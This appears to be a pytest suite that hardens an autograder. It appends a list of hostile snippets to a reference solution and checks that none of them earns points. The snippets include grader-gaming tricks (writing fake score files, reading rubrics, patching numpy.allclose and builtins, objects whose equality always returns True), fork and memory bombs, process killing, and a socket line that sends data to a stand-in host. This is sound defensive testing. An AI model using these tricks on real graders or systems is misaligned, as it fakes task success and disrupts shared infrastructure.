"""Hostile submissions: each is the reference plus an attack; the attack must earn nothing.

Every grade also passes the checks in `attack` (conftest): results written and
schema-valid, the sentinel file and the rubric/reference unchanged, time bound kept.
"""
from __future__ import annotations

import pytest

from adversarial.conftest import AS_ROOT, REFERENCE_SOURCE

FULL = None  # the honest score, filled by the first test that needs it

# name -> code appended to the reference solution; none of it may add points.
ATTACKS = {
    "write_results_relative": "open('results.json', 'w').write('{\"score\": 1e9}')\n",
    "write_results_absolute": "open('/autograder/results/results.json', 'w').write('{}')\n",
    "write_results_env": "import os\nopen(os.environ.get('RESULTS', 'SENTINEL'), 'w').write('x')\n",
    "overwrite_sentinel": "open('SENTINEL', 'w').write('owned')\n",
    "read_rubric_from_disk": "import glob\nLEAK = [open(p).read() for p in glob.glob('/work/main/rubrics/*.yaml')]\n",
    "import_grader": "import autograder.rubric as r\nANSWER_1A = str(r.load_rubric())\n",
    "patch_numpy_allclose": "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n",
    "patch_math_isclose": "import math\nmath.isclose = lambda *a, **k: True\n",
    "patch_builtins": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n",
    "lying_eq": "class L(float):\n    def __eq__(s, o): return True\n    __hash__ = float.__hash__\n"
                "def softmax(z): return L(0)\n",
    "lying_float": "class F:\n    def __float__(s): raise SystemExit\ndef token_norms(X): return F()\n",
    "lying_array": "class A:\n    def __array__(s, *a, **k): import os; os._exit(3)\n"
                   "    def __len__(s): return 10**12\ndef token_norms(X): return A()\n",
    "lying_ufunc": "class U:\n    __array_priority__ = 1e9\n    def __array_ufunc__(s, *a, **k): return True\n"
                   "def self_attention(X): return U()\n",
    "sys_exit_at_import": "import sys\nsys.exit(0)\n",
    "os_exit_in_call": "import os\ndef softmax(z): os._exit(0)\n",
    "kill_parent": "import os, signal\ndef softmax(z):\n    os.kill(os.getppid(), signal.SIGKILL)\n",
    "killpg": "import os, signal\ndef token_norms(X):\n    os.killpg(0, signal.SIGKILL)\n",
    "ignore_signals": "import signal\nfor s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT):\n"
                      "    signal.signal(s, signal.SIG_IGN)\ndef softmax(z):\n    while True: pass\n",
    "atexit_hook": "import atexit\natexit.register(lambda: open('SENTINEL', 'w').write('late'))\n",
    "thread_left_running": "import threading, sys\ndef spin():\n    while True: sys.stdout.write('x')\n"
                           "threading.Thread(target=spin, daemon=True).start()\n",
    "loop_in_one_function": "def softmax(z):\n    while True: pass\n",
    "memory_bomb": "def token_norms(X):\n    chunks = []\n    while True: chunks.append(bytearray(1 << 26))\n",
    "fork_bomb_bounded": "import os\ndef softmax(z):\n    for _ in range(200):\n"
                         "        try:\n            if os.fork() == 0:\n                import time; time.sleep(30)\n"
                         "        except OSError: break\n    while True: pass\n",
    "setsid_escape": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(2)\n"
                     "    open('SENTINEL', 'w').write('escaped')\n    os._exit(0)\n",
    "huge_stdout": "print('y' * (1 << 24))\n",
    "fd_level_stdout": "import os\nos.write(1, b'{\"score\": 999}\\n' * 1000)\nos.write(2, b'x' * 100000)\n",
    "nan_inf_returns": "def token_norms(X): return [float('nan')] * len(X)\n"
                       "def softmax(z): return float('inf')\n",
    "network_exfiltration": "import socket\ndef softmax(z):\n    try:\n"
                            "        socket.create_connection(('192.0.2.1', 80), timeout=0.2).send(repr(z).encode())\n"
                            "    except OSError: pass\n    raise RuntimeError('no network')\n",
}


def _score(results: dict) -> float:
    return sum(test["score"] for test in results["tests"])


@pytest.fixture(scope="module")
def honest(hostile):
    """What the reference alone earns under the fast rubric."""
    from autograder.grade import grade_path
    import tempfile
    from pathlib import Path

    sandbox, plan = hostile
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "hw3.py"
        path.write_text(REFERENCE_SOURCE, encoding="utf-8")
        return _score(grade_path(path, plan, sandbox))


# Attacks that write the sentinel, a file the grader's user owns: only a separate uid stops them.
WRITES_GRADER_FILES = {"write_results_env", "overwrite_sentinel", "atexit_hook", "setsid_escape"}
NEEDS_ROOT = pytest.mark.skipif(not AS_ROOT, reason="not root: the child runs as the grader's user "
                                                    "and may write its files (docs/security.md)")


@pytest.mark.parametrize("name", [pytest.param(name, marks=NEEDS_ROOT) if name in WRITES_GRADER_FILES else name
                                  for name in sorted(ATTACKS)])
def test_attack_gains_nothing(attack, honest, name):
    results = attack(REFERENCE_SOURCE + "\n" + ATTACKS[name])
    assert _score(results) <= honest + 1e-9


def test_killing_the_fork_server_does_not_fail_the_next_submission(attack, honest):
    attack(REFERENCE_SOURCE + "\n" + ATTACKS["kill_parent"])
    assert _score(attack(REFERENCE_SOURCE)) == honest


def test_loop_in_one_function_costs_only_that_function(attack, honest):
    results = attack(REFERENCE_SOURCE + "\ndef token_norms(X):\n    while True: pass\n")
    lost = [t for t in results["tests"] if t["score"] < t["max_score"]]
    assert [t["name"] for t in lost] == [t["name"] for t in results["tests"] if "norm" in t["name"].lower()]
    assert "stopped" in lost[0]["output"]


def test_a_dead_fork_server_is_replaced(hostile, attack, honest):
    import os
    import signal

    sandbox, _plan = hostile
    os.kill(sandbox._process.pid, signal.SIGKILL)
    sandbox._process.wait()
    assert _score(attack(REFERENCE_SOURCE)) == honest
